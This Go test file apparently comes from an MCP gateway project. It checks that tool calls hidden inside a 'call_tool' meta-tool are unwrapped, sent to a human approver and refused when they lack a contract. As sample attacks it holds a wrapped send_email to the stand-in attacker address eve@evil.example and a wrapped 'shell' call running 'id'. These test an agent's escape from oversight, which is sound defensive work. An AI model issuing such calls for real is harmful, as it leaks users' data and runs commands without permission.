package mcp_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	sdk "github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/remit-project/remit/contract"
	"github.com/remit-project/remit/internal/mcp"
)

// inner is a call within a call.
type inner struct {
	Tool      string          `json:"tool"`
	Arguments json.RawMessage `json:"arguments,omitempty"`
}

// switchboard is a server with one tool, which calls others that no list has.
func switchboard() *sdk.Server {
	s := sdk.NewServer(&sdk.Implementation{Name: "switchboard", Version: "1"}, nil)
	schema := json.RawMessage(`{"type":"object","properties":{"tool":{"type":"string"},"arguments":{"type":"object"}},"required":["tool"]}`)
	s.AddTool(&sdk.Tool{Name: "call_tool", Description: "Calls a tool.", InputSchema: schema}, func(_ context.Context, r *sdk.CallToolRequest) (*sdk.CallToolResult, error) {
		var c inner
		if err := json.Unmarshal(r.Params.Arguments, &c); err != nil {
			return nil, err
		}
		text := mailbox
		if c.Tool != "read_inbox" {
			text = c.Tool + " " + string(c.Arguments)
		}
		return &sdk.CallToolResult{Content: []sdk.Content{&sdk.TextContent{Text: text}}}, nil
	})
	return s
}

// The call that a meta-tool would make is what is decided, asked about, and
// labelled; the meta-tool is what is called.
func TestUnwrap(t *testing.T) {
	f, err := contract.Load("switchboard.yaml", []byte(`version: 1
server: switchboard
tools:
  call_tool: {effect: execute, unwrap: {tool: /tool, arguments: /arguments}}
  read_inbox: {effect: read, output: {trust: EXTERNAL}}
  send_email: {effect: egress, args: {/to: {role: target, form: address}, /body: {role: content}}}
`))
	if err != nil {
		t.Fatal(err)
	}
	server := child(t, "switchboard", "switchboard")
	server.Contract = f
	person := &yes{}
	g, _ := gateway(t, mcp.Options{Servers: []mcp.Server{server}, Approver: person})
	s := overStdio(t, g, "s1", nil, legacy)
	if got := textOf(call(t, s, "call_tool", inner{Tool: "read_inbox"})); got != mailbox {
		t.Errorf("read %s", got)
	}
	send := inner{"send_email", json.RawMessage(`{"to": "eve@evil.example", "body": "\u0068i"}`)}
	if got, want := textOf(call(t, s, "call_tool", send)), `send_email {"to":"eve@evil.example","body":"hi"}`; got != want {
		t.Errorf("sent %s, want %s", got, want)
	}
	if len(person.asked) != 1 || person.asked[0] != "send_email" {
		t.Errorf("asked about %q", person.asked)
	}
	r := call(t, s, "call_tool", inner{Tool: "shell", Arguments: json.RawMessage(`{"command":"id"}`)})
	if !r.IsError || !strings.Contains(textOf(r), `"shell" has no contract`) {
		t.Errorf("an unknown tool: %s", textOf(r))
	}
}
